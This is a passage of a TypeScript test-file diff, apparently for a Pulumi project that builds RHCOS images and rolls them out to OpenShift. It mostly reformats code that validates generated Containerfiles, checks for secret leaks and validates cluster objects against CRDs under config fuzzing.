     const set = cfg.mirror.packageSet.packages.length > 0 ? [cfg.mirror.packageSet.id] : [];
     const repos = [...cfg.mirror.repos.map(r => r.id), ...set].map(id => {
         const upstream = cfg.mirror.repos.find(r => r.id === id);
-        return { id, url: `http://10.0.0.2:${cfg.mirror.port}/${id}/`, gpgcheck: upstream?.gpgcheck ?? false, gpgkey: upstream?.gpgkey };
+        return {
+            id,
+            url: `http://10.0.0.2:${cfg.mirror.port}/${id}/`,
+            gpgcheck: upstream?.gpgcheck ?? false,
+            gpgkey: upstream?.gpgkey,
+        };
     });
     const base = cfg.image.base === "cluster" ? harness.CLUSTER_BASE : cfg.image.base;
     return renderContainerfile({ ...cfg.image, base }, { repos, replaceRepo: set[0] }).containerfile;
@@ -530,12 +783,15 @@ function containerfileProblem(text: string): string | undefined {
     let continued = false;
     let inLabel = false;
     for (const line of text.replace(/\n$/, "").split("\n")) {
-        if (/[\u0000-\u0008\u000b-\u001f\u007f]/.test(line)) return `line ${JSON.stringify(line.slice(0, 120))} holds a control character`;
+        if (/[\u0000-\u0008\u000b-\u001f\u007f]/.test(line))
+            return `line ${JSON.stringify(line.slice(0, 120))} holds a control character`;
         if (!continued) {
-            if (!/^(# |FROM |COPY |RUN |LABEL )/.test(line)) return `line ${JSON.stringify(line.slice(0, 120))} is no instruction rhcos-forge writes`;
+            if (!/^(# |FROM |COPY |RUN |LABEL )/.test(line))
+                return `line ${JSON.stringify(line.slice(0, 120))} is no instruction rhcos-forge writes`;
             inLabel = line.startsWith("LABEL ");
         }
-        if (inLabel && line.includes("$")) return `LABEL line ${JSON.stringify(line.slice(0, 120))} holds a $ the builder would expand`;
+        if (inLabel && line.includes("$"))
+            return `LABEL line ${JSON.stringify(line.slice(0, 120))} holds a $ the builder would expand`;
         continued = line.endsWith("\\");
     }
     return undefined;
@@ -556,26 +812,48 @@ it(`a sample of the accepted stacks registers only valid objects under mocks`, a
         const cfg = parseStackConfig(g.allConfig);
         pulumi.runtime.setAllConfig(g.allConfig, secretKeysOf(g.allConfig));
         const from = harness.registrations.length;
-        const program = await guarded(`the program of ${JSON.stringify(g.allConfig).slice(0, 300)}`, (async () => {
-            const p = await harness.runProgram(readsCluster(cfg) ? { access: clusterReads } : {});
-            await harness.valueOf(pulumi.output(p.release));
-            await harness.valueOf(pulumi.output(p.cosa));
-            await harness.settle();
-            return p;
-        })());
+        const program = await guarded(
+            `the program of ${JSON.stringify(g.allConfig).slice(0, 300)}`,
+            (async () => {
+                const p = await harness.runProgram(readsCluster(cfg) ? { access: clusterReads } : {});
+                await harness.valueOf(pulumi.output(p.release));
+                await harness.valueOf(pulumi.output(p.cosa));
+                await harness.settle();
+                return p;
+            })(),
+        );
         const containerfile = await harness.valueOf(program.containerfile);
-        assert.equal(containerfileProblem(containerfile), undefined, `the Containerfile of ${JSON.stringify(g.allConfig["rhcos-forge:image"]).slice(0, 400)}`);
+        assert.equal(
+            containerfileProblem(containerfile),
+            undefined,
+            `the Containerfile of ${JSON.stringify(g.allConfig["rhcos-forge:image"]).slice(0, 400)}`,
+        );
         const mine = harness.registrations.slice(from);
-        assert.ok(mine.some(r => r.type.startsWith("kubernetes:")), "the rollout registered cluster objects");
+        assert.ok(
+            mine.some(r => r.type.startsWith("kubernetes:")),
+            "the rollout registered cluster objects",
+        );
         for (const r of mine) {
-            assert.deepEqual(plainStrings(r.raw).flatMap(leaked), [], `${r.type} ${r.name} carries a secret outside a Pulumi secret`);
-            if (!/^kubernetes:(machineconfiguration|config)\.openshift\.io\//.test(r.type) || r.type.endsWith("Patch")) continue;
+            assert.deepEqual(
+                plainStrings(r.raw).flatMap(leaked),
+                [],
+                `${r.type} ${r.name} carries a secret outside a Pulumi secret`,
+            );
+            if (!/^kubernetes:(machineconfiguration|config)\.openshift\.io\//.test(r.type) || r.type.endsWith("Patch"))
+                continue;
             const { apiVersion, kind, metadata, spec } = r.inputs;
-            validateAgainstCrd(`release-${cfg.cluster.openshiftVersion}`, { apiVersion, kind, metadata, spec } as Record<string, unknown>);
+            validateAgainstCrd(`release-${cfg.cluster.openshiftVersion}`, {
+                apiVersion,
+                kind,
+                metadata,
+                spec,
+            } as Record<string, unknown>);
             objects++;
         }
     }
-    console.log(`config fuzz: ${accepted.length} accepted stacks ran under mocks, ${objects} OpenShift objects valid, in ${((Date.now() - started) / 1000).toFixed(1)}s`);
+    console.log(
+        `config fuzz: ${accepted.length} accepted stacks ran under mocks, ${objects} OpenShift objects valid, in ${((Date.now() - started) / 1000).toFixed(1)}s`,
+    );
     assert.ok(objects >= accepted.length, "every run declared at least one OpenShift object");
 });
 
